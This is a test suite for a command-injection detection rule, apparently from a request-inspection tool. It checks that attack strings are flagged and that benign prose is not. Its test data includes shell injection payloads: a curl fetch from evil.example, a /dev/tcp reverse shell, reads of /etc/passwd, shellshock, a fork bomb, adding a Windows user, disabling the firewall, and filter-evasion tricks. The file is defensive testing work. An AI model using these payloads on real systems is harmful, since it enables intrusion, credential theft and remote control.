import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { commandInjection, PATTERNS } from '../src/inspection/rules/command-injection.js'
import { corpusSuite, expectFinding, matchRaw } from './support/rule-suite.js'

const expectHit = expectFinding.bind(undefined, commandInjection)

corpusSuite(commandInjection, 'command_injection', {
  longInputs: [
    '127.0.0.1' + ' '.repeat(70) + '; cat /etc/passwd',
    'Lorem ipsum dolor sit amet, consectetur adipiscing elit; sed do eiusmod | whoami',
    '() { :; }; /bin/bash -c "' + 'a'.repeat(80) + '"',
  ],
})

describe('command injection rule', () => {
  it('finds a command chained after a separator', () => {
    expectHit('127.0.0.1; id', 'query', 'command_injection.chained-command', '; id', 'high')
    expectHit('x | whoami', 'body', 'command_injection.chained-command', '| whoami', 'high')
    expectHit(
      'a && cat /etc/passwd',
      'body',
      'command_injection.chained-command',
      'cat /etc/passwd',
      'medium',
    )
    expectHit('`uname -a`', 'body', 'command_injection.chained-command', 'uname -a', 'high')
    expectHit(
      '$(curl http://evil.example/x.sh)',
      'body',
      'command_injection.chained-command',
      'curl http',
      'high',
    )
    expectHit('host%0a id', 'query', 'command_injection.chained-command', 'id', 'high')
    expectHit('|/usr/bin/id|', 'cookie', 'command_injection.chained-command', '/usr/bin/id', 'high')
    expectHit('& ping -n 30 127.0.0.1 &', 'body', 'command_injection.chained-command', 'ping -n 30', 'medium')
    expectHit("; system('id')", 'body', 'command_injection.chained-command', 'system(', 'high')
    expectHit(
      '| type %SYSTEMROOT%\\win.ini',
      'body',
      'command_injection.chained-command',
      'type %systemroot%',
    )
    expectHit('& powershell -enc SQBFAFgA', 'body', 'command_injection.chained-command', 'powershell', 'high')
    // Quotes, backslashes and brace expansion a shell removes.
    expectHit(";w'h'o'am'i", 'body', 'command_injection.chained-command', "w'h'o'am'i", 'high')
    expectHit('|c\\at /etc/passwd', 'body', 'command_injection.chained-command', 'c\\at', 'high')
    expectHit(';{cat,/etc/passwd}', 'body', 'command_injection.chained-command', '{cat,', 'medium')
  })

  it('finds a value that is a command line', () => {
    expectHit('sleep 5', 'query', 'command_injection.command-line', 'sleep 5', 'medium')
    expectHit('cat /etc/passwd', 'query', 'command_injection.command-line', 'cat /etc/passwd', 'medium')
    expectHit('which nc', 'body', 'command_injection.command-line', 'which nc', 'medium')
    expectHit('/bin/unxz -c /tmp/x.xz', 'body', 'command_injection.command-line', '/bin/unxz', 'medium')
  })

  it('finds the shapes only shells have', () => {
    expectHit('() { :; }; echo vulnerable', 'header', 'command_injection.shellshock', '() { :; }', 'high')
    expectHit(':(){ :|:& };:', 'body', 'command_injection.fork-bomb', ':(){ :|:&', 'high')
    expectHit('<!--#exec cmd="ls" -->', 'body', 'command_injection.ssi', '<!--#exec', 'high')
    // \u0024 is `$`: `cat${IFS}/etc/passwd`.
    expectHit('cat\u0024{IFS}/etc/passwd', 'query', 'command_injection.ifs', '\u0024{ifs}', 'high')
    expectHit(
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'body',
      'command_injection.reverse-shell',
      '/dev/tcp/',
    )
    expectHit("sh -c 'id'", 'body', 'command_injection.shell-invocation', "sh -c '", 'medium')
    expectHit('/???/c?t /???/p??s??', 'body', 'command_injection.glob-path', '/???/c?', 'medium')
    expectHit(
      "require('child_process').exec('id')",
      'body',
      'command_injection.node-shell',
      'child_process',
      'high',
    )
    expectHit('process.env', 'body', 'command_injection.node-probe', 'process.env', 'low')
    expectHit('|foo', 'body_key', 'command_injection.separator-name', '|foo', 'low')
  })

  it('finds Windows paths written with a slash, and commands run from a variable (fuzzdb)', () => {
    expectHit('x | dir c:/', 'query', 'command_injection.chained-command', 'dir c:/', 'medium')
    expectHit(";CMD=$'id';$CMD", 'query', 'command_injection.variable-run', "cmd=$'id';$cmd", 'high')
    expectHit('a&&c="uname -a";$c', 'body', 'command_injection.variable-run', 'c="uname -a";$c', 'high')
  })

  it('finds substitution with a backtick inside $(, netsh, and code that runs a command line (payloadbox)', () => {
    expectHit(
      '$(`cat /etc/passwd`)',
      'query',
      'command_injection.chained-command',
      'cat /etc/passwd',
      'medium',
    )
    expectHit(
      '| netsh firewall set opmode disable',
      'query',
      'command_injection.chained-command',
      'netsh',
      'high',
    )
    expectHit(
      '<?php system("sleep 5");?>',
      'body',
      'command_injection.exec-call',
      'system("sleep 5',
      'medium',
    )
  })

  it('finds a command run from a variable with its quotes escaped, or after a carriage return (fuzzdb)', () => {
    expectHit("CMD=$\\'id\\';$CMD", 'query', 'command_injection.variable-run', "cmd=$\\'id\\';$cmd", 'high')
    expectHit('%0DCMD=$"id";$CMD', 'query', 'command_injection.variable-run', 'cmd=$"id";$cmd', 'high')
  })

  it('takes net, reg and netsh only with their own subcommands', () => {
    expectHit('; net user hacker P@ss /add', 'query', 'command_injection.chained-command', 'net', 'high')
    expectHit('| reg query HKLM\\Software', 'query', 'command_injection.chained-command', 'reg', 'high')
    expectHit('& netsh wlan show profiles', 'query', 'command_injection.chained-command', 'netsh', 'high')
    for (const raw of ['; net firewall off', '; reg user list', '& netsh add x', '| reg users'])
      assert.equal(matchRaw(commandInjection, raw, 'query'), undefined, raw)
  })

  it('leaves prose, punctuation and code in Markdown alone', () => {
    for (const [raw, kind] of [
      ['Tom & Jerry; cat lovers | dog people', 'body'],
      ['Tom+%26+Jerry+--+the+1940+original', 'query'],
      ['Yes/No; maybe? (not sure)', 'body'],
      ["Sure; I'd.", 'body'],
      ["Tom & Jerry; cat's toys, id est", 'body'],
      ["My password hint is my dog's name; don't ask", 'body'],
      ["I'd say; id like that one", 'body'],
      ['Prices from 10 to 20 EUR; shipping 4.90', 'body'],
      ['ls vs dir', 'query'],
      ['cat toys', 'query'],
      ['wget vs curl', 'query'],
      ['sleep 8 hours a night', 'query'],
      ['Sleep(8 hours) is the best benchmark', 'body'],
      ['echo hello > greeting.txt is how I learned shell', 'body'],
      ['Exec summary attached; comments welcome', 'body'],
      ['id', 'query'],
      ['type', 'query'],
      // Field lists.
      ['name|email|id', 'query'],
      ['title;created_at;id', 'body'],
      ['Run `ls -la` to list the files', 'body'],
      ['Try `curl -s http://127.0.0.1:8080/health && echo ok || echo down`. If it hangs, check.', 'body'],
      ['My script does `grep -r "x" ./docs | wc -l`\n\n```bash\ngrep -r x ./docs\n```', 'body'],
      ['$(document).ready(function () { init() })', 'body'],
      ['console.log is handy while debugging', 'body'],
      ['The \u0024{price} placeholder shows in the email template', 'body'],
      ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'header'],
      ['curl/8.4.0', 'header'],
      ['function area(s) { switch (s.kind) { case "circle": return 1 } }', 'body'],
      // PHP code with variables, quoted in a post.
      ['<?php $name="Ada";$n = 2; ?>', 'body'],
      ['the list (`ls`) shows files', 'body'],
      ['the system("please wait") message', 'body'],
      ['netsh is the network shell', 'query'],
    ] as const) {
      assert.equal(matchRaw(commandInjection, raw, kind), undefined, `${kind} ${raw}`)
    }
  })

  it('exports its patterns', () => {
    assert.ok(PATTERNS.length >= 10)
    for (const pattern of PATTERNS) assert.ok(pattern instanceof RegExp)
  })
})
